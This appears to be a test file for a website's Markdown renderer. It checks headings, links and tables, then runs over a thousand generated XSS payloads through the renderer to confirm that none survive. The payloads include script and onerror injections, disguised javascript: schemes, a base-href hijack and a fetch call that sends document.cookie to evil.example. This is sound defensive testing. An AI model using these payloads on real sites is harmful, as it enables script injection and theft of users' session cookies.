@@ -1,0 +1,202 @@
+// The one renderer of Markdown: what it makes, and that hostile text never becomes more than text.
+import { type DefaultTreeAdapterTypes, parseFragment } from 'parse5';
+import { describe, expect, test } from 'vitest';
+import { renderMarkdown } from './markdown.ts';
+
+const origin = 'https://shop.example';
+const render = (text: string) => renderMarkdown(text, origin).trim();
+
+describe('headings', () => {
+  test('stand below the page’s own, each with an anchor of its own', () => {
+    expect(render('# One two\n\n## Größe & *more*\n\n# One two\n\n###### Six')).toBe(
+      [
+        '<h2 id="section-one-two">One two</h2>',
+        '<h3 id="section-größe-more">Größe &amp; <em>more</em></h3>',
+        '<h2 id="section-one-two-2">One two</h2>',
+        '<h6 id="section-six">Six</h6>',
+      ].join('\n'),
+    );
+  });
+
+  test('keep the letters of other scripts; one without letters has an anchor all the same', () => {
+    expect(render('# مرحبا بكم\n\n# ...\n\n# ???')).toBe(
+      '<h2 id="section-مرحبا-بكم">مرحبا بكم</h2>\n<h2 id="section">...</h2>\n<h2 id="section-2">???</h2>',
+    );
+  });
+});
+
+describe('links and pictures', () => {
+  const external = 'rel="external noopener noreferrer"';
+
+  test.each([
+    ['[a](/features)', '<a href="/features">a</a>'],
+    ['[a](https://shop.example/x)', '<a href="https://shop.example/x">a</a>'],
+    ['[a](#section-one)', '<a href="#section-one">a</a>'],
+    ['[a](mailto:ada@example.com)', '<a href="mailto:ada@example.com">a</a>'],
+    ['[a](https://other.example/)', `<a href="https://other.example/" ${external}>a</a>`],
+    ['[a](http://shop.example/)', `<a href="http://shop.example/" ${external}>a</a>`],
+    ['https://other.example/x', `<a href="https://other.example/x" ${external}>https://other.example/x</a>`],
+    ['readme.md and ada@example.com', 'readme.md and ada@example.com'],
+    ['![A cat](/server/pictures/1)', '<img src="/server/pictures/1" alt="A cat" loading="lazy" />'],
+    ['![A cat](https://other.example/cat.png)', ''],
+    ['![A cat](//other.example/cat.png)', ''],
+    ['![A cat](/\\other.example/cat.png)', '<img src="/%5Cother.example/cat.png" alt="A cat" loading="lazy" />'],
+    ['![A cat](data:image/png;base64,iVBORw0KGgo=)', ''],
+  ])('%s', (text, markup) => {
+    expect(render(text)).toBe(`<p>${markup}</p>`);
+  });
+});
+
+test('lists, quotations, code and tables', () => {
+  const text = '3. c\n4. d\n\n> q\n\n```js\nlet a = "<b>";\n```\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n~~gone~~';
+  expect(render(text)).toBe(
+    [
+      '<ol start="3">\n<li>c</li>\n<li>d</li>\n</ol>',
+      '<blockquote>\n<p>q</p>\n</blockquote>',
+      '<pre><code>let a = "&lt;b&gt;";\n</code></pre>',
+      '<table>\n<thead>\n<tr>\n<th>a</th>\n<th>b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>1</td>\n<td>2</td>\n</tr>\n</tbody>\n</table>',
+      '<p><s>gone</s></p>',
+    ].join('\n'),
+  );
+});
+
+const scripts = ['alert(1)', "alert('x')", 'alert`1`', 'top[`al`+`ert`](1)', 'fetch("//evil.example/"+document.cookie)'];
+const schemes = [
+  'javascript:',
+  'JaVaScRiPt:',
+  'java\tscript:',
+  'java\nscript:',
+  '\u0001javascript:',
+  ' javascript:',
+  'javascript&colon;',
+  '&#106;avascript:',
+  '&#x6A&#x61vascript:',
+  'javascript&#58;',
+  '&Tab;javascript:',
+  'vbscript:',
+  'data:text/html,',
+  'data:text/html;base64,',
+  'data:image/svg+xml,',
+  'file:///',
+  'blob:',
+  'view-source:javascript:',
+  'feed:javascript:',
+  'x:javascript:',
+];
+const links = [
+  (url: string) => `[a](${url})`,
+  (url: string) => `[a](<${url}>)`,
+  (url: string) => `<${url}>`,
+  (url: string) => `[a][1]\n\n[1]: ${url}`,
+  (url: string) => `![a](${url})`,
+  (url: string) => `[![a](${url})](${url} "t")`,
+  (url: string) => `[a](${url} "\\" onmouseover=alert(1) x=\\"")`,
+  (url: string) => `# [a](${url})`,
+  (url: string) => `| a |\n|---|\n| [a](${url}) |`,
+];
+const raws = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<iframe srcdoc="<script>alert(1)</script>">',
+  '<object data="javascript:alert(1)">',
+  '<form action=javascript:alert(1)><input type=submit>',
+  '<a href=javascript:alert(1)>a</a>',
+  '<details open ontoggle=alert(1)>',
+  '<style>@import "javascript:alert(1)"</style>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '</p></div><img src=x onerror=alert(1)>',
+  '<x id=content name=cookie>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<![CDATA[><img src=x onerror=alert(1)>]]>',
+  '<?php <img src=x onerror=alert(1)> ?>',
+  '<textarea></textarea><img src=x onerror=alert(1)>',
+  '<template><img src=x onerror=alert(1)></template>',
+  '&lt;img src=x onerror=alert(1)&gt;',
+  '"><img src=x onerror=alert(1)>',
+  "'-alert(1)-'",
+  '{{constructor.constructor("alert(1)")()}}',
+];
+const places = [
+  (raw: string) => raw,
+  (raw: string) => `a ${raw} b`,
+  (raw: string) => `# ${raw}`,
+  (raw: string) => `- ${raw}\n  ${raw}`,
+  (raw: string) => `> ${raw}`,
+  (raw: string) => `\`${raw}\``,
+  (raw: string) => `\`\`\`${raw}\n${raw}\n\`\`\``,
+  (raw: string) => `    ${raw}`,
+  (raw: string) => `| ${raw} |\n|---|\n| ${raw} |`,
+  (raw: string) => `[${raw}](/a)`,
+  (raw: string) => `![${raw}](/a.png "${raw}")`,
+  (raw: string) => `[a](/a '${raw}')`,
+  (raw: string) => `[a](/${raw})`,
+  (raw: string) => `**${raw}** *${raw}* ~~${raw}~~`,
+];
+const hostile = [
+  ...schemes.flatMap((scheme) => scripts.flatMap((script) => links.map((link) => link(scheme + script)))),
+  ...raws.flatMap((raw) => places.map((place) => place(raw))),
+];
+
+/** Names of elements and of their attributes. */
+const allowed: Readonly<Record<string, readonly string[]>> = {
+  ...Object.fromEntries('p blockquote ul li pre hr br table thead tbody tr th td strong em s code'.split(' ').map((name) => [name, []])),
+  ...Object.fromEntries(['h2', 'h3', 'h4', 'h5', 'h6'].map((name) => [name, ['id']])),
+  ol: ['start'],
+  a: ['href', 'title', 'rel'],
+  img: ['src', 'alt', 'title', 'loading'],
+};
+
+function faultsOf(markup: string): string[] {
+  const faults: string[] = [];
+  const walk = (node: DefaultTreeAdapterTypes.Node): void => {
+    if (node.nodeName === '#comment') faults.push('a comment');
+    if ('tagName' in node) {
+      const attributes = allowed[node.tagName];
+      if (attributes === undefined) faults.push(node.tagName);
+      for (const { name, value } of node.attrs) {
+        if (attributes?.includes(name) === false) faults.push(`${node.tagName} ${name}`);
+        if (name === 'href' && !/^(?:https?|mailto):$/.test(URL.parse(value, origin)?.protocol ?? '')) faults.push(value);
+        if (name === 'src' && (!value.startsWith('/') || URL.parse(value, origin)?.origin !== origin)) faults.push(value);
+        if (name === 'id' && !value.startsWith('section')) faults.push(value);
+      }
+    }
+    if ('childNodes' in node) for (const child of node.childNodes) walk(child);
+  };
+  walk(parseFragment(markup));
+  return faults;
+}
+
+describe('hostile text', () => {
+  test('there are more than a thousand cases', () => {
+    expect(hostile.length).toBeGreaterThan(1_000);
+  });
+
+  test('nothing but the elements and attributes of the renderer comes out, and no address that runs', () => {
+    expect(faultsOf('<p onclick="x"><script></script><a href="javascript:1">')).toEqual(['p onclick', 'script', 'javascript:1']);
+    const wrong = hostile.flatMap((text) => faultsOf(render(text)).map((fault) => `${JSON.stringify(text)}: ${fault}`));
+    expect(wrong).toEqual([]);
+  });
+
+  test.each([
+    ['brackets', '['],
+    ['stars', '*a '],
+    ['quotations', '>'],
+    ['lists', '- '],
+    ['back ticks', '`a'],
+    ['pictures', '![](<'],
+    ['tables', '|-'],
+    ['angles', '<!--'],
+    ['links', 'http://a '],
+    ['headings', '# a\n'],
+    ['definitions', '[a]: /b\n'],
+  ])('a hundred thousand characters of %s take no long time', (_name, part) => {
+    const start = performance.now();
+    render(part.repeat(100_000 / part.length));
+    expect(performance.now() - start).toBeLessThan(5_000);
+  });
+});
